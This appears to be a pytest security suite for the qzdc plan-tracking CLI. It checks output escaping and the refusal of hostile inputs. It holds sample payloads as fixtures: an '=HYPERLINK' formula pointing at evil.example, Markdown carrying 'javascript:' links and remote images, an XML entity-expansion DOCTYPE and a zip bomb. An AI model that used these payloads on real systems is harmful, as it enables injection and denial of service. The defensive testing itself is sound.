@pytest.mark.parametrize("raw", [["--raw"], []], ids=["machine CSV", "people's CSV"])
@pytest.mark.parametrize(
    "command",
    [
        ["status"],
        ["status", "--since", "2023"],
        ["history", "gdp"],
        ["show", "gdp"],
        ["indicators"],
        ["tasks"],
        ["owners"],
        ["owners", "区发展改革委"],
        ["audit"],
    ],
    ids=lambda c: " ".join(c),
)
def test_no_csv_output_holds_a_live_formula(run, formula_plan, command, raw):
    import csv
    import io

    args = ["--plan", str(formula_plan)]
    if command[0] not in _NO_ACTUALS:
        args += ["--actuals", str(formula_plan / "actuals.yaml")]
    result = run(*command, "--format", "csv", *raw, *args)
    assert result.exit_code == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))))
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                raise AssertionError(f"live formula {cell!r} in {command}")
            if cell.startswith("-"):
                float(cell.removesuffix("%"))  # only a number (or a percentage) may start with a minus sign


@pytest.mark.parametrize("raw", [["--raw"], []], ids=["machine CSV", "people's CSV"])
def test_batch_csv_holds_no_live_formula(run, formula_plan, raw):
    import csv
    import io

    result = run("batch", str(formula_plan), "--format", "csv", *raw)
    assert result.exit_code == 0, result.stderr
    cells = [c for row in csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))) for c in row]
    assert '\'=HYPERLINK("http://evil.example/","x")' in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]


# ── 4. Markdown injection ────────────────────────────────────────────────────

MD_ATTACK = "[点此](javascript:alert(1)) ![x](http://evil.example/t.png) a|b\rc\x1bd <img src=x> http://evil.example www.evil.example"


def _md_tokens(text: str):
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table").parse(text)


def _flatten(tokens):
    for token in tokens:
        yield token
        yield from _flatten(token.children or [])


def test_md_escape_keeps_a_table_and_makes_no_link_or_image():
    from qzdc.render.formats import to_markdown
    from qzdc.views.view import Column, View

    view = View(data=None, columns=[Column("a", "A"), Column("b", "B")], rows=[{"a": MD_ATTACK, "b": "x"}])
    text = to_markdown(view)
    tokens = list(_flatten(_md_tokens(text)))
    kinds = [t.type for t in tokens]
    assert "link_open" not in kinds and "image" not in kinds and "html_inline" not in kinds
    assert kinds.count("tr_open") == 2  # the header and one row: the CR made no second row
    assert kinds.count("td_open") == 2  # and the | no third column
    assert raw_controls(text) == []
    # GFM would link bare addresses by itself: their scheme and www are broken with an escape.
    assert "http\\://evil.example" in text and "www\\.evil.example" in text


@pytest.mark.parametrize(
    "command", [["status", "--format", "markdown"], ["report"], ["history", "gdp", "--format", "markdown"]]
)
def test_markdown_of_a_hostile_plan_keeps_its_tables(run, plan_copy, command):
    yaml_text = json.dumps(MD_ATTACK)  # a JSON string is a YAML double-quoted string
    edit(plan_copy / "indicators.yaml", "    name: 地区生产总值\n", f"    name: {yaml_text}\n")
    (plan_copy / "actuals.yaml").write_text(
        f"actuals:\n  - {{indicator: gdp, period: 2024, value: 81.2, source: {yaml_text}}}\n", encoding="utf-8"
    )
    result = run(*command, "--plan", str(plan_copy), "--actuals", str(plan_copy / "actuals.yaml"))
    assert result.exit_code == 0, result.stderr
    tokens = list(_flatten(_md_tokens(result.stdout)))
    kinds = [t.type for t in tokens]
    assert "link_open" not in kinds and "image" not in kinds and "html_inline" not in kinds
    # Every row of every table has as many cells as its header.
    widths, row = [], 0
    for token in tokens:
        if token.type == "tr_open":
            row = 0
        elif token.type in ("td_open", "th_open"):
            row += 1
        elif token.type == "tr_close":
            widths.append(row)
    assert widths and len(set(widths)) <= 3  # one width per table at most (report has three tables)
    assert raw_controls(result.stdout) == []


def test_batch_markdown_of_a_hostile_plan(run, plan_copy):
    yaml_text = json.dumps(MD_ATTACK)
    edit(plan_copy / "indicators.yaml", "    name: 地区生产总值\n", f"    name: {yaml_text}\n")
    result = run("batch", str(plan_copy), "--format", "markdown")
    assert result.exit_code == 0, result.stderr
    kinds = [t.type for t in _flatten(_md_tokens(result.stdout))]
    assert "link_open" not in kinds and "image" not in kinds
    assert raw_controls(result.stdout) == []


def test_a_code_block_in_markdown_cannot_be_closed_by_plan_text():
    from qzdc.render.formats import md_code

    block = md_code(["```", "a ```` b"])
    assert block[0] == block[-1] == "`````"


# ── the rendering layer, fuzzed ──────────────────────────────────────────────

# Text with control characters of every kind among ordinary and Chinese characters.
hostile_text = st.text(
    alphabet=st.one_of(
        st.characters(min_codepoint=0, max_codepoint=0x9F),
        st.sampled_from(list("地区生产总值|[]()!<>`*_#\\-=+@:/.w ")),
        st.characters(categories=["L", "N", "P", "S", "Z"]),
    ),
    max_size=40,
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(texts=st.lists(st.tuples(hostile_text, hostile_text), min_size=1, max_size=4), title=hostile_text)
def test_no_format_emits_a_raw_control_character_and_csv_and_markdown_keep_their_shape(texts, title):
    import csv
    import io

    from qzdc.render.formats import render, to_json
    from qzdc.render.table import to_table
    from qzdc.views.view import Column, Document, Section, View

    columns = [Column("a", title or "A"), Column("b", "B"), Column("n", "N", align="right")]
    rows = [{"a": a, "b": b, "n": -1.5} for a, b in texts]
    view = View(data=rows, columns=columns, rows=rows, title=title, footer=title)
    stream = io.StringIO()
    outputs = {
        "table": render(view, "table", stream=stream),
        "rich table": to_table(view, stream, width=100, color=True),
        "json": to_json(view.data),
        "csv": render(view, "csv"),
        "markdown": render(view, "markdown"),
    }
    document = Document(data=rows, title=title, sections=[Section(title, view=view, lines=[a for a, _ in texts])])
    outputs["document"] = render(document, "table", stream=stream)
    outputs["document markdown"] = render(document, "markdown", stream=stream)
    outputs["csv"] = outputs["csv"].replace("\r\n", "\n")  # CSV's own line ends (RFC 4180); checked below
    for name, text in outputs.items():
        assert raw_controls(text) == [], name
    # CSV: a header and one record per row, three fields each, every field a text or the number as written.
    records = list(csv.reader(io.StringIO(render(view, "csv"), newline="")))
    assert len(records) == 1 + len(rows)
    assert all(len(r) == 3 for r in records)
    assert all(r[2] == "-1.5" for r in records[1:])
    assert not [c for r in records for c in r[:2] if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Markdown: one table, a header and one line per row, three cells in each, and nothing that links anywhere.
    tokens = list(_flatten(_md_tokens(outputs["markdown"])))
    kinds = [t.type for t in tokens]
    assert kinds.count("tr_open") == 1 + len(rows)
    assert kinds.count("td_open") == 3 * len(rows)
    assert (
        "link_open" not in kinds and "image" not in kinds and "html_inline" not in kinds and "html_block" not in kinds
    )


# ── 6. special files are written to, through, or refused: never replaced ─────


@pytest.fixture
def request_cleanup():
    """Functions to call after the test, whatever its outcome."""
    calls: list = []
    yield calls
    for call in calls:
        call()


needs_root = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root")


def _record(run, *args):
    return run("record", "gdp", "2024", "81.2", *args)


@needs_root
def test_o_to_a_character_device_writes_to_it(run, tmp_path):
    device = tmp_path / "null"
    os.mknod(device, 0o666 | stat.S_IFCHR, os.makedev(1, 3))  # a second /dev/null
    result = run("status", "--format", "json", "-o", str(device))
    assert result.exit_code == 0, result.stderr
    assert stat.S_ISCHR(device.lstat().st_mode), "the device node was replaced by a regular file"
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


def test_actuals_on_a_character_device_is_refused(run):
    result = _record(run, "--actuals", "/dev/null")
    assert result.exit_code == 1
    assert result.stderr == (
        "qzdc: error: /dev/null is a character device, not a regular file; nothing was read "
        "(qzdc reads its files only from regular files: save the data to a file first)\n"
    )
    assert stat.S_ISCHR(os.lstat("/dev/null").st_mode)


def test_o_to_a_symlink_writes_the_real_file_and_keeps_the_link(run):
    Path("real.json").write_text("old", encoding="utf-8")
    Path("link.json").symlink_to("real.json")
    result = run("status", "--format", "json", "-o", "link.json")
    assert result.exit_code == 0, result.stderr
    assert Path("link.json").is_symlink()
    assert "targets" in json.loads(Path("real.json").read_text(encoding="utf-8"))


def test_actuals_through_a_symlink_writes_through_it(run):
    Path("data").mkdir()
    assert _record(run, "--actuals", "data/actuals.yaml").exit_code == 0
    Path("link.yaml").symlink_to("data/actuals.yaml")
    result = run("record", "gdp", "2024", "82", "--actuals", "link.yaml")
    assert result.exit_code == 0, result.stderr
    assert Path("link.yaml").is_symlink()
    assert [e["value"] for e in yaml.safe_load(Path("data/actuals.yaml").read_text(encoding="utf-8"))["actuals"]] == [
        81.2,
        82,
    ]
    # One lock for both names: the hidden lock file beside the real file.
    assert Path("data/.actuals.yaml.lock").exists() and not Path(".link.yaml.lock").exists()


def test_a_hard_link_is_kept_by_appending_in_place(run):
    assert _record(run).exit_code == 0
    os.link("actuals.yaml", "other-name.yaml")
    inode = os.stat("actuals.yaml").st_ino
    before = Path("actuals.yaml").read_bytes()
    for name, value in (("actuals.yaml", "82"), ("other-name.yaml", "83")):
        result = run("record", "gdp", "2024", value, "--actuals", name)
        assert result.exit_code == 0, result.stderr
    assert os.stat("actuals.yaml").st_ino == os.stat("other-name.yaml").st_ino == inode
    after = Path("other-name.yaml").read_bytes()
    assert after.startswith(before)
    assert [e["value"] for e in yaml.safe_load(after)["actuals"]] == [81.2, 82, 83]


def test_o_onto_a_file_with_hard_links_is_refused(run):
    Path("out.json").write_text("old", encoding="utf-8")
    os.link("out.json", "twin.json")
    result = run("status", "--format", "json", "-o", "out.json")
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == (
        "qzdc: error: -o: cannot write out.json: it has 2 hard links, and replacing it would leave the others "
        "with the old contents; nothing was written (write to another name, or remove the other links)"
    )
    assert Path("twin.json").read_text(encoding="utf-8") == "old"


def test_a_read_only_actuals_file_is_refused_even_for_root(run):
    assert _record(run).exit_code == 0
    Path("actuals.yaml").chmod(0o444)
    before = Path("actuals.yaml").read_bytes()
    result = run("record", "gdp", "2024", "90")
    assert result.exit_code == 1
    assert result.stderr == (
        "qzdc: error: cannot write actuals.yaml: it is read-only; nothing was written "
        "(make it writable (chmod u+w) if it is meant to change)\n"
    )
    assert Path("actuals.yaml").read_bytes() == before
    assert stat.S_IMODE(os.stat("actuals.yaml").st_mode) == 0o444


def test_o_onto_a_read_only_file_is_refused(run):
    Path("out.csv").write_text("old", encoding="utf-8")
    Path("out.csv").chmod(0o444)
    result = run("status", "-o", "out.csv")
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1].startswith(
        "qzdc: error: -o: cannot write out.csv: it is read-only; nothing was written"
    )
    assert Path("out.csv").read_text(encoding="utf-8") == "old"


# ── 7. a FIFO is refused at once, never waited on ─────────────────────────────


def _fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


FIFO_MESSAGE = (
    "is a named pipe (FIFO), not a regular file; nothing was read "
    "(qzdc reads its files only from regular files: save the data to a file first)"
)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
@pytest.mark.parametrize("where", ["plan file", "actuals file", "import file", "import workbook"])
def test_a_fifo_is_refused_with_one_line(tmp_path, plan_copy, where):
    """A real process with a timeout: before the fix each of these waited forever for a writer."""
    import subprocess
    import sys

    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[1] / "src")}
    if where == "plan file":
        (plan_copy / "tasks.yaml").unlink()
        args, shown = ["status", "--plan", str(plan_copy)], _fifo(plan_copy / "tasks.yaml")
    elif where == "actuals file":
        args, shown = ["status", "--actuals", "pipe.yaml"], _fifo(tmp_path / "pipe.yaml")
    elif where == "import file":
        args, shown = ["import", "pipe.csv"], _fifo(tmp_path / "pipe.csv")
    else:
        args, shown = ["import", "pipe.xlsx"], _fifo(tmp_path / "pipe.xlsx")
    result = subprocess.run(
        [sys.executable, "-m", "qzdc", *args], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 1
    shown_path = os.path.relpath(shown, tmp_path)
    assert result.stderr == f"qzdc: error: {shown_path} {FIFO_MESSAGE}\n"


def test_a_plan_file_that_is_dev_zero_is_refused(run, plan_copy):
    (plan_copy / "tasks.yaml").unlink()
    (plan_copy / "tasks.yaml").symlink_to("/dev/zero")
    result = run("status", "--plan", str(plan_copy))
    assert result.exit_code == 1
    assert result.stderr == (
        f"qzdc: error: {plan_copy / 'tasks.yaml'} is a character device, not a regular file; nothing was read "
        "(qzdc reads its files only from regular files: save the data to a file first)\n"
    )


# ── 7b. -o onto the actuals file or a plan file ───────────────────────────────

PROTECTED = (
    "is a file this command reads (a plan file or the actuals file); nothing was written "
    "(write the output under another name)"
)


def test_o_onto_the_actuals_file_is_refused_and_the_file_kept(run):
    for value in ("81", "82", "83"):
        assert run("record", "gdp", "2024", value).exit_code == 0
    before = Path("actuals.yaml").read_bytes()
    result = run("status", "--format", "json", "-o", "actuals.yaml")
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == f"qzdc: error: -o: actuals.yaml {PROTECTED}"
    assert Path("actuals.yaml").read_bytes() == before
    assert len(yaml.safe_load(before)["actuals"]) == 3


@pytest.mark.parametrize(
    "command",
    [["indicators"], ["history", "gdp"], ["report"], ["audit"], ["show", "gdp"], ["tasks"]],
    ids=lambda c: c[0],
)
def test_no_command_writes_its_output_over_the_actuals_file(run, command):
    assert run("record", "gdp", "2024", "81").exit_code == 0
    before = Path("actuals.yaml").read_bytes()
    result = run(*command, "-o", "actuals.yaml", "--format", "markdown")
    assert result.exit_code == 2, result.stderr
    assert result.stderr.splitlines()[-1] == f"qzdc: error: -o: actuals.yaml {PROTECTED}"
    assert Path("actuals.yaml").read_bytes() == before


def test_o_onto_a_plan_file_is_refused(run, plan_copy):
    before = (plan_copy / "indicators.yaml").read_bytes()
    result = run("status", "--plan", str(plan_copy), "--format", "json", "-o", str(plan_copy / "indicators.yaml"))
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == f"qzdc: error: -o: {plan_copy / 'indicators.yaml'} {PROTECTED}"
    assert (plan_copy / "indicators.yaml").read_bytes() == before


def test_batch_o_onto_a_plans_actuals_file_is_refused(run, plan_copy):
    (plan_copy / "actuals.yaml").write_text(
        "actuals:\n  - {indicator: gdp, period: 2024, value: 81}\n", encoding="utf-8"
    )
    before = (plan_copy / "actuals.yaml").read_bytes()
    result = run("batch", str(plan_copy), "--format", "jsonl", "-o", str(plan_copy / "actuals.yaml"))
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == f"qzdc: error: -o: {plan_copy / 'actuals.yaml'} {PROTECTED}"
    assert (plan_copy / "actuals.yaml").read_bytes() == before


def test_batch_o_onto_a_plan_file_through_a_linked_directory_is_refused(run, plan_copy, tmp_path):
    link = tmp_path / "link"
    link.symlink_to(plan_copy, target_is_directory=True)
    before = (plan_copy / "plan.yaml").read_bytes()
    result = run("batch", str(plan_copy), "--format", "jsonl", "-o", str(link / "plan.yaml"))
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == f"qzdc: error: -o: {link / 'plan.yaml'} {PROTECTED}"
    assert (plan_copy / "plan.yaml").read_bytes() == before


def test_batch_protects_its_plans_without_recording_every_file_it_reads(run, plan_copy, tmp_path):
    """Memory: a 10,000-plan batch grew by a path for each of every plan's files; the plans' files are
    protected by directory instead, so the record of inputs holds the same few paths for 1 plan or 12."""
    import shutil

    from qzdc import fsutil

    copies = []
    for i in range(12):
        copies.append(tmp_path / f"town-{i}")
        shutil.copytree(plan_copy, copies[-1])
    sizes = []
    for plans in (copies[:1], copies):
        result = run("batch", *map(str, plans), "--format", "jsonl", "-o", str(tmp_path / "out.jsonl"))
        assert result.exit_code == 0, result.stderr
        sizes.append(len(fsutil.inputs))
    assert sizes[0] == sizes[1] <= 2  # $QZDC_ACTUALS and ./actuals.yaml
    assert len((tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()) == 12 * 40


# ── 11. a malformed workbook is one line naming the file ──────────────────────


def _workbook(path: Path, rows: list[list[object]] | None = None) -> Path:
    from openpyxl import Workbook

    book = Workbook()
    for row in rows or [["指标", "期间", "数值"], ["gdp", 2024, 81.2]]:
        book.active.append(row)
    book.save(path)
    return path


def _rezip(path: Path, replace: dict[str, bytes]) -> Path:
    """The workbook at `path` with some of its parts replaced."""
    import zipfile

    parts = {}
    with zipfile.ZipFile(path) as old:
        for info in old.infolist():
            parts[info.filename] = old.read(info)
    parts.update(replace)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            new.writestr(name, data)
    return path


SHEET = "xl/worksheets/sheet1.xml"
BROKEN_WORKBOOKS = {
    "broken sheet XML": (
        {
            SHEET: b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row'
        },
        f"{SHEET} is not well-formed XML (unclosed token: line 1, column 109)",
    ),
    "garbage workbook XML": (
        {"xl/workbook.xml": b"garbage \x00\xff not xml"},
        "xl/workbook.xml is not well-formed XML (syntax error: line 1, column 0)",
    ),
    "a cell reference ZZZZZZZZ": (
        {
            SHEET: b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<sheetData><row r="1"><c r="ZZZZZZZZ1" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>'
        },
        "the cell reference 'ZZZZZZZZ1' is outside any sheet",
    ),
    "an XML entity": (
        {
            SHEET: b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>'
        },
        "its XML declares a DOCTYPE, which no workbook Excel writes has",
    ),
    "not a zip at all": (None, "not a readable .xlsx workbook"),
}


@pytest.mark.parametrize("case", list(BROKEN_WORKBOOKS))
def test_an_unreadable_workbook_is_one_line_naming_the_file(run, case):
    replace, why = BROKEN_WORKBOOKS[case]
    path = _workbook(Path("figures.xlsx"))
    if replace is None:
        path.write_bytes(b"PK\x03\x04 this is no zip")
    else:
        _rezip(path, replace)
    result = run("import", "figures.xlsx", "--dry-run")
    assert result.exit_code == 1
    assert result.stderr == (
        f"qzdc: error: cannot read figures.xlsx: {why}; nothing was imported (save it again from Excel as .xlsx)\n"
    )


# ── 12. resource bombs: documented limits, refused in constant memory ─────────


def test_an_xlsx_zip_bomb_is_refused_before_it_is_unpacked(run):
    """10 MB of zip that unpacks to 146 MB of XML: refused by the sizes its zip declares, unread."""
    import zipfile

    path = _workbook(Path("bomb.xlsx"))
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    body = row * (146_000_000 // len(row))
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as book:
        book.writestr("xl/worksheets/sheet2.xml", body)
    assert path.stat().st_size < 10_000_000
    result = run("import", "bomb.xlsx", "--dry-run")
    assert result.exit_code == 1
    assert result.stderr == (
        "qzdc: error: bomb.xlsx unpacks to more than 100 MB, qzdc's limit for a workbook; nothing was imported "
        "(split it into smaller files (README: Limits))\n"
    )


def test_a_workbook_with_too_many_rows_is_refused_while_it_is_scanned(run, monkeypatch):
    from qzdc.actuals import importer

    monkeypatch.setattr(importer, "ROW_LIMIT", 50)
    _workbook(Path("rows.xlsx"), [["指标", "期间", "数值"], *[["gdp", 2024, n] for n in range(60)]])
    result = run("import", "rows.xlsx", "--dry-run")
    assert result.exit_code == 1
    assert result.stderr == (
        "qzdc: error: rows.xlsx has more than 50 rows, qzdc's limit for an import; nothing was imported "
        "(split it into smaller files (README: Limits))\n"
    )


def test_a_merged_range_over_the_whole_sheet_is_refused(run):
    """17 billion cells merged: openpyxl would fill every one; refused from the reference alone."""
    path = _workbook(Path("merged.xlsx"))
    _rezip(
        path,
        {
            SHEET: b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
            b'<mergeCells count="1"><mergeCell ref="A5:XFD1048576"/></mergeCells></worksheet>'
        },
    )
    result = run("import", "merged.xlsx", "--dry-run")
    assert result.exit_code == 1
    assert result.stderr == (
        "qzdc: error: merged.xlsx has more than 2,000,000 cells, qzdc's limit for an import; nothing was imported "
        "(split it into smaller files (README: Limits))\n"
    )


def test_a_1_gb_csv_is_refused_without_reading_it(run):
    with open("huge.csv", "wb") as f:  # sparse: a gigabyte on paper, nothing on disk
        f.truncate(10**9)
    result = run("import", "huge.csv", "--dry-run")
    assert result.exit_code == 1
    assert result.stderr == (
        "qzdc: error: huge.csv is larger than 20 MB, qzdc's limit for an import file; nothing was read "
        "(split it into smaller files (README: Limits))\n"
    )


def test_a_csv_with_too_many_rows_is_refused(run, monkeypatch):
    from qzdc.actuals import importer

    monkeypatch.setattr(importer, "ROW_LIMIT", 10)
    Path("rows.csv").write_text("指标,期间,数值\n" + "gdp,2024,81\n" * 11, encoding="utf-8")
    result = run("import", "rows.csv", "--dry-run")
    assert result.exit_code == 1
    assert result.stderr.startswith("qzdc: error: rows.csv has more than 10 rows, qzdc's limit for an import")


def test_a_plan_of_a_billion_annex_rows_is_refused(run, plan_copy):
    edit(plan_copy / "plan.yaml", "annex_rows: 24\n", "annex_rows: 1000000000\n")
    result = run("validate", "--plan", str(plan_copy), "--format", "json")
    assert result.exit_code == 1
    [error] = json.loads(result.stdout)["errors"]
    assert error["field"] == "annex_rows"
    assert error["message"] == "expected at most 999, got 1000000000"


def test_a_plan_file_beyond_its_limit_is_refused_unread(run, plan_copy):
    with open(plan_copy / "observations.yaml", "ab") as f:
        f.truncate(10**9)
    result = run("status", "--plan", str(plan_copy))
    assert result.exit_code == 1
    assert result.stderr == (
        f"qzdc: error: {plan_copy / 'observations.yaml'} is larger than 10 MB, qzdc's limit for a plan file; "
        "nothing was read (split it into smaller files (README: Limits))\n"
    )


def test_an_actuals_file_beyond_its_limit_is_refused_unread(run):
    with open("actuals.yaml", "wb") as f:
        f.truncate(10**9)
    result = run("status")
    assert result.exit_code == 1
    assert result.stderr == (
        "qzdc: error: actuals.yaml is larger than 20 MB, qzdc's limit for an actuals file; nothing was read "
        "(split it into smaller files (README: Limits))\n"
    )


# ── 14. usage and limits ─────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "args",
    [
        ["status", "--plan", ""],
        ["status", "--actuals", ""],
        ["status", "--actuals="],
        ["validate", "--plan", ""],
        ["record", "gdp", "2024", "81", "--actuals", ""],
        ["status", "-o", ""],
        ["report", "--output="],
    ],
    ids=lambda a: " ".join(x or repr(x) for x in a),
)
def test_an_empty_path_is_a_usage_error(run, args):
    result = run(*args)
    assert result.exit_code == 2
    name = next(a.split("=")[0] for a in args if a.startswith("-"))
    assert result.stderr == f"qzdc: error: {name}: the path is empty (name a file or directory, or leave {name} out)\n"
    assert not Path("actuals.yaml").exists()


def test_an_empty_path_through_the_fast_entry_point(tmp_path):
    import subprocess
    import sys

    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[1] / "src")}
    result = subprocess.run(
        [sys.executable, "-m", "qzdc", "status", "--plan", ""], cwd=tmp_path, env=env, capture_output=True, text=True
    )
    assert result.returncode == 2
    assert result.stderr == "qzdc: error: --plan: the path is empty (name a file or directory, or leave --plan out)\n"


def test_an_unreadable_import_file_is_bad_data(run, monkeypatch):
    Path("figures.csv").write_text("指标,期间,数值\ngdp,2024,81\n", encoding="utf-8")
    real_open = os.open

    def denied(path, *args, **kwargs):
        if os.fspath(path).endswith("figures.csv"):
            raise PermissionError(13, "Permission denied")
        return real_open(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", denied)
    result = run("import", "figures.csv")
    assert result.exit_code == 1
    assert result.stderr == "qzdc: error: cannot read figures.csv: Permission denied\n"


@pytest.mark.parametrize("command", [["status"], ["show", "gdp"], ["status", "--lang", "en"]])
def test_a_columns_value_beyond_any_screen_is_the_widest(run, command):
    result = run(*command, env={"COLUMNS": "99999999999"})
    assert result.exit_code == 0
    assert max(len(line) for line in result.stdout.splitlines()) <= 1000


@needs_root
def test_a_lock_file_another_user_created_does_not_keep_others_out(request_cleanup):
    """Two users who may both write the actuals file: the second is not locked out by the first's lock file.

    Forked children drop root for two other users; the first writes with umask 077, as
    a careful user might, which used to make a lock file the second could not open.
    """
    import shutil
    import tempfile

    from qzdc.actuals.store import append_entries, lock_path

    plan = load_plan()
    # Outside pytest's own directory, which only root may enter.
    shared = Path(tempfile.mkdtemp(prefix="qzdc-shared-"))
    shared.chmod(0o777)
    request_cleanup.append(lambda: shutil.rmtree(shared, ignore_errors=True))
    # A write first, elsewhere, so that the children find every module a write needs already imported.
    append_entries(shared / "warm-up.yaml", plan, [{"indicator": "gdp", "period": 2024, "value": 79}])
    path = shared / "actuals.yaml"
    path.write_text("actuals:\n  - {indicator: gdp, period: 2024, value: 80}\n", encoding="utf-8")
    path.chmod(0o666)

    def as_user(uid: int, value: int) -> int:
        pid = os.fork()
        if pid == 0:
            try:
                os.umask(0o077)
                os.setgid(uid)
                os.setuid(uid)
                append_entries(path, plan, [{"indicator": "gdp", "period": 2024, "value": value}])
                os._exit(0)
            except BaseException as error:
                (shared / f"error-{uid}.txt").write_text(repr(error), encoding="utf-8")
                os._exit(1)
        return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])

    assert as_user(4242, 81) == 0, (shared / "error-4242.txt").read_text(encoding="utf-8")
    lock = lock_path(path)
    assert lock.stat().st_uid == 4242
    assert stat.S_IMODE(lock.stat().st_mode) == 0o644  # readable by all, whatever the umask
    assert as_user(4243, 82) == 0, (shared / "error-4243.txt").read_text(encoding="utf-8")
    assert [e["value"] for e in yaml.safe_load(path.read_text(encoding="utf-8"))["actuals"]] == [80, 81, 82]
    assert lock.name == ".actuals.yaml.lock"


# ── 13. the appender, for any file YAML accepts ──────────────────────────────

_NOTE_TEXT = st.one_of(
    st.text(
        alphabet=st.one_of(
            st.characters(codec="utf-8", exclude_categories=["Cs"]),
            st.sampled_from(list(":#-[]{}'\"|>!&*%@`,? \t\u0085\u2028\u2029")),
        ),
        max_size=12,
    ),
    st.sampled_from(["no", "~", "null", "2024", "- x", "a: b", "#x", "多行\n备注"]),
)


@st.composite
def _entry_text(draw, dash: int, key: int, nl: str) -> str:
    """One entry of gdp as a person might write it: block or flow, any quoting of its note, comments."""
    import yaml as pyyaml

    period = draw(st.sampled_from(["2023", "2024", '"2024"', "2024-Q3", '"2025-Q1"']))
    value = draw(st.sampled_from(["75", "80.5", "81.20", "+82", "7.6e+1", '"83"']))
    note = draw(st.none() | _NOTE_TEXT)
    style = draw(st.sampled_from([None, '"', "'", "|", ">"]))
    comment = draw(st.sampled_from(["", "  # 快报", "\t# tab before"]))
    if draw(st.booleans()):  # flow
        fields = ["indicator: gdp", f"period: {period}", f"value: {value}"]
        if note is not None:
            fields.append("note: " + pyyaml.dump(note, default_style='"', width=1 << 30).strip())
        return " " * dash + "- {" + ", ".join(fields) + "}" + comment + nl
    lines = [
        f"indicator: gdp{comment}",
        f"period: {period}",
        f"value:{draw(st.sampled_from([' ', '  ', chr(9)]))}{value}",
    ]
    if note is not None:
        dumped = pyyaml.dump({"note": note}, default_style=style, width=1 << 30, allow_unicode=True).rstrip("\n")
        lines += dumped.split("\n")
    out = " " * dash + "-" + " " * (key - dash - 1) + lines[0] + nl
    for line in lines[1:]:
        out += (" " * key + line if line else line) + nl
    return out


@st.composite
def actuals_files(draw) -> str:
    nl = draw(st.sampled_from(["\n", "\r\n"]))
    head = draw(
        st.sampled_from(
            ["", "# 万古镇实际数据" + nl, nl, "---" + nl, "%YAML 1.1" + nl + "---" + nl, "--- # start" + nl]
        )
    )
    key = draw(st.sampled_from(["actuals:", '"actuals":', "actuals:   # 录入", "actuals: &list"]))
    dash = draw(st.sampled_from([0, 2, 4]))
    indent = dash + draw(st.sampled_from([2, 4]))
    between = st.sampled_from(["", nl, "  # 修订" + nl, "# col 0" + nl, "   " + nl])
    body = "".join(draw(between) + draw(_entry_text(dash, indent, nl)) for _ in range(draw(st.integers(0, 3))))
    if not body and key == "actuals: &list":
        key = "actuals:"  # an anchor on nothing is a null value, which is refused: tested apart
    tail = draw(st.sampled_from(["", nl, nl + nl, "# end" + nl, "  # end, indented" + nl]))
    text = head + key + nl + body + tail
    if draw(st.booleans()):
        text = text.rstrip("\r\n")  # no final line break
    return text


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(layout=actuals_files(), bom=st.booleans())
def test_appending_keeps_every_byte_and_adds_one_entry(layout, bom):
    """For any file the reader accepts: the old bytes are a prefix of the new file, which reads as the old
    entries and the new one; or the append is refused, naming what prevents it, and the file is unchanged."""
    import tempfile

    from qzdc.actuals.store import append_entries, read_entries
    from qzdc.errors import DataError

    plan = _PLAN()
    with tempfile.TemporaryDirectory() as directory:
        path = Path(directory) / "actuals.yaml"
        original = (b"\xef\xbb\xbf" if bom else b"") + layout.encode("utf-8")
        path.write_bytes(original)
        try:
            before = read_entries(path, plan)
        except DataError:
            return  # not a file the reader accepts (a note YAML folds into another key, say): nothing to append to
        try:
            append_entries(path, plan, [{"indicator": "gdp", "period": 2025, "value": 99.5, "note": "新"}])
        except DataError as error:
            assert error.message.startswith("cannot append to "), error.message
            assert path.read_bytes() == original
            return
        written = path.read_bytes()
        assert written.startswith(original)
        after = read_entries(path, plan)
        assert after[: len(before)] == before
        assert [(e.indicator, str(e.period), e.value, e.note) for e in after[len(before) :]] == [
            ("gdp", "2025", 99.5, "新")
        ]


def _PLAN():
    global _plan_cache
    if "_plan_cache" not in globals():
        _plan_cache = load_plan()
    return _plan_cache


TAB_IN_VALUE = "actuals:\n  - indicator: gdp\n    period: 2023\n    value:\t75\n"
